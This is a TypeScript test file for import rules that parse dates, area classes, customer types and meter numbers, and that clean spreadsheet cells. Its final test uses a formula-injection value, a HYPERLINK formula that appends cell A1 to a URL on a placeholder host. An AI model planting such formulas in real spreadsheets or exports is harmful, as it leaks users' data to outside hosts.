import { describe, expect, test } from 'vitest';
import { cleanText, readAreaClass, readCustomerType, readDate, readMeterNo } from '#shared/features/directory/importValues.rules.ts';

const outcome = (result: { ok: true; value: string } | { ok: false; code: string }): string => (result.ok ? result.value : result.code);

describe('dates', () => {
  test.each([
    ['2015-07-20', '2015-07-20'], ['2015/7/2', '2015-07-02'], ['2015.07.20', '2015-07-20'], ['20150720', '2015-07-20'], ['2015年7月20日', '2015-07-20'], ['２０１５－０７－２０', '2015-07-20'],
    ['2015-07-20 08:30:00', '2015-07-20'], ['2015-07-20T00:00:00.000Z', '2015-07-20'], ['42205', '2015-07-20'], ['36526', '2000-01-01'], ['73050', '2099-12-31'], ['10959', '1930-01-01'], ['45351', '2024-02-29'],
    ['1900-01-00', 'dateImpossible'], ['2023-02-29', 'dateImpossible'], ['2015-13-01', 'dateImpossible'], ['20/07/2015', 'dateForm'], ['2015-07', 'dateForm'], ['昨天', 'dateForm'], ['2015', 'dateForm'],
  ])('%s reads as %s', (text, expected) => {
    expect(outcome(readDate(text))).toBe(expected);
  });
});

test.each([['城区', 'urban'], ['市区', 'urban'], ['城镇', 'urban'], ['农村', 'rural'], ['乡镇', 'rural'], ['偏远', 'remote'], ['特殊边远地区', 'remote'], ['偏远山区', 'remote'], ['郊区', null], ['', null], ['城区农村', null]])('area class %s is %s', (text, expected) => {
  expect(readAreaClass(text)).toBe(expected);
});

test.each([['居民', 'resident'], ['城镇居民生活用电', 'resident'], ['低压居民', 'resident'], ['低压非居民', 'lowVoltageNonResident'], ['一般工商业', 'lowVoltageNonResident'], ['农业生产', 'lowVoltageNonResident'], ['高压', 'highVoltage'], ['大工业用电', 'highVoltage'], ['重要用户', 'keyUser'], ['其他', 'other'], ['低压', null], ['甲类', null]])('customer type %s is %s', (text, expected) => {
  expect(readCustomerType(text)).toBe(expected);
});

test.each([['420377677636', '420377677636'], ['１２３４５６', '123456'], ['ab-1234', 'AB-1234'], ['123', 'meterForm'], ['4.2E+11', 'meterForm'], ['表号1234', 'meterForm']])('meter %s reads as %s', (text, expected) => {
  expect(outcome(readMeterNo(text))).toBe(expected);
});

test('a cell becomes one line, keeps rare characters and formula signs, and loses invisible ones', () => {
  expect([cleanText('北关社区37号楼\r\n(院内)'), cleanText(' =HYPERLINK("http://x/?"&A1,"崔强")'), cleanText('罗\u200B䶮\uFEFF洋\u0000'), cleanText('沈𠮷\t洋'), cleanText('\u202E王\u3000五 ')]).toEqual([
    '北关社区37号楼 (院内)', '=HYPERLINK("http://x/?"&A1,"崔强")', '罗䶮洋', '沈𠮷 洋', '王 五',
  ]);
});
